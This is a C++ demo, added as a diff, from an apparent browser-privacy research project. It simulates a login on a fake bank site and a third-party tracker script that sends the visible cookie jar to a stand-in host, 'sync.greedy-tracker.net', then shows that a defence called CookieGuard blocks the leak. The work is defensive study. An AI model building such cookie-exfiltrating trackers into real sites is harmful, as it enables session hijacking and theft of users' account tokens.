@@ -1,0 +1,105 @@
+// authenticated_session: the §8 "future work" scenario — what script-based
+// attackers can reach in an *authenticated* browsing context.
+//
+// A hand-built shop performs a login: the server sets an HttpOnly session
+// cookie (correct practice) and a non-HttpOnly account token (the bad
+// practice the paper warns about). A tracker in the main frame then ships
+// the whole visible jar. The demo shows:
+//   1. HttpOnly keeps the session id out of every script's reach,
+//   2. the non-HttpOnly token leaks to the tracker (session-hijack risk),
+//   3. CookieGuard closes that hole without touching the site's own code.
+#include <cstdio>
+
+#include "browser/browser.h"
+#include "browser/page.h"
+#include "cookieguard/cookieguard.h"
+#include "script/ops.h"
+
+namespace {
+
+using namespace cg;
+
+browser::ScriptCatalog build_catalog() {
+  browser::ScriptCatalog catalog;
+  script::ScriptSpec tracker;
+  tracker.id = "greedy-tracker";
+  tracker.url_template = "https://cdn.greedy-tracker.net/t.js";
+  tracker.category = script::Category::kAdvertising;
+  tracker.ops = {script::exfiltrate_jar("sync.greedy-tracker.net",
+                                        script::Encoding::kRaw, "/grab")};
+  catalog.add(std::move(tracker));
+  return catalog;
+}
+
+void run(bool with_guard) {
+  const auto catalog = build_catalog();
+  browser::Browser browser({}, /*seed=*/11);
+  browser.set_catalog(&catalog);
+  browser::DocumentSpec doc;  // tracker loads on every page
+  doc.script_ids = {"greedy-tracker"};
+  browser.set_document_provider([doc](const net::Url&) { return doc; });
+
+  // The shop's server: login sets the session (HttpOnly) and an account
+  // token (not HttpOnly — the mistake).
+  browser.network().register_host(
+      "www.bank-demo.com", [](const net::HttpRequest& req) {
+        net::HttpResponse res;
+        if (req.url.path() == "/api/login") {
+          res.headers.add("Set-Cookie",
+                          "sid=5f2ac9e4b1d87c3a90e1; Path=/; HttpOnly");
+          res.headers.add("Set-Cookie",
+                          "account_token=acct4417628390; Path=/");
+        }
+        return res;
+      });
+
+  // Capture what the tracker's endpoint receives.
+  std::string grabbed;
+  browser.network().register_host(
+      "sync.greedy-tracker.net", [&](const net::HttpRequest& req) {
+        grabbed = req.url.query();
+        return net::HttpResponse{};
+      });
+
+  cookieguard::CookieGuard guard;
+  if (with_guard) browser.add_extension(&guard);
+
+  auto page = browser.navigate(net::Url::must_parse("https://www.bank-demo.com/"));
+
+  // The user logs in: the site's own script calls the login endpoint.
+  script::ExecContext site_script;
+  site_script.script_url = "https://www.bank-demo.com/assets/app.js";
+  site_script.script_domain = "bank-demo.com";
+  page->run_as(site_script, [&](script::PageServices& services) {
+    services.send_request(
+        site_script, net::Url::must_parse("https://www.bank-demo.com/api/login"));
+  });
+
+  // The tracker fires again post-login (a second page view).
+  page->run_catalog_script("greedy-tracker");
+  page->loop().run_until_idle();
+
+  std::printf("  jar after login: %zu cookies (sid is HttpOnly)\n",
+              browser.jar().size());
+  std::printf("  tracker endpoint received: %s\n",
+              grabbed.empty() ? "(nothing)" : grabbed.c_str());
+  const bool sid_leaked = grabbed.find("5f2ac9e4b1d87c3a90e1") != std::string::npos;
+  const bool token_leaked = grabbed.find("acct4417628390") != std::string::npos;
+  std::printf("  session id leaked: %s | account token leaked: %s\n",
+              sid_leaked ? "YES" : "no", token_leaked ? "YES" : "no");
+}
+
+}  // namespace
+
+int main() {
+  std::printf("Authenticated-context pilot (paper section 8 future work)\n");
+  std::printf("=========================================================\n");
+  std::printf("\n-- plain browser --\n");
+  run(false);
+  std::printf("\n-- with CookieGuard --\n");
+  run(true);
+  std::printf("\nHttpOnly alone protects the session id; CookieGuard also "
+              "keeps the mis-flagged\naccount token away from main-frame "
+              "third parties.\n");
+  return 0;
+}
